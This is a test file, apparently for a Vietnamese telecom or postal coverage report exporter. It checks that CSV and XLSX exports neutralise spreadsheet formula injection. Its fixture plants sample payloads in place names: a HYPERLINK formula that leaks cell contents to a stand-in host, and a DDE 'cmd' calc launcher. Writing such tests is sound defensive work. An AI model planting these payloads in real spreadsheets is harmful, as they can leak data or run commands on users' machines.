import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { reportCsv } from '../../src/io/export/report_csv.ts';
import { reportXlsx } from '../../src/io/export/report_xlsx.ts';
import { miniReport } from '../support/mini_report.ts';

const EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Xem")';

/** A report whose names try to inject spreadsheet formulas through a commune, district and village. */
function evilReport() {
  const r = miniReport();
  r.units[0]!.name = EVIL;
  r.units[2]!.name = '+cmd|" /C calc"!A0';
  r.dead_zone_villages = [
    {
      village_id: '-2+3',
      name: '@SUM(1,2)',
      commune_id: '1',
      commune_name: EVIL,
      population: 120,
      has_grid_power: true,
      nearest_4g_site_km: 4.5,
      nearest_4g_site_id: '=S1',
      nearest_4g_bearing_deg: 90,
    },
  ];
  r.communes_without_staffed_postal_point = [{ id: '1', name: EVIL, parent_id: '10' }];
  return r;
}

describe('formula neutralisation in the CSV and XLSX exports', () => {
  it('CSV: text cells starting with = + - @ get a leading apostrophe', () => {
    const files = reportCsv(evilReport());
    const communes = files['report_communes.csv']!;
    expect(communes).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""Xem"")"`);
    expect(communes).toContain(`"'+cmd|"" /C calc""!A0"`);
    const dz = files['report_dead_zone_villages.csv']!;
    expect(dz).toContain(`'-2+3,"'@SUM(1,2)",1,`);
    // No cell of any CSV starts with a formula character.
    for (const text of Object.values(files))
      for (const line of text.slice(1).split('\r\n'))
        expect(
          line.split(',').some((cell) => /^"?[=+@]/.test(cell)),
          line,
        ).toBe(false);
    // Numbers are untouched (negative numbers are numbers, not text).
    expect(communes.split('\r\n')[1]).toContain(',1000,10,');
  });

  it('XLSX (read by exceljs): the same cells are plain text with the apostrophe, never formulas', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(reportXlsx(evilReport()) as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
        }),
      );
    expect(texts).toContain(`'${EVIL}`);
    expect(texts).toContain(`'+cmd|" /C calc"!A0`);
    expect(texts).toContain("'@SUM(1,2)");
    expect(texts).toContain("'-2+3");
    expect(texts.filter((t) => /^[=+\-@]/.test(t))).toEqual([]);
    const communes = wb.getWorksheet('Xã')!;
    expect(communes.getCell('B2').value).toBe(`'${EVIL}`);
    expect(communes.getCell('E2').value).toBe(1000);
  });
});
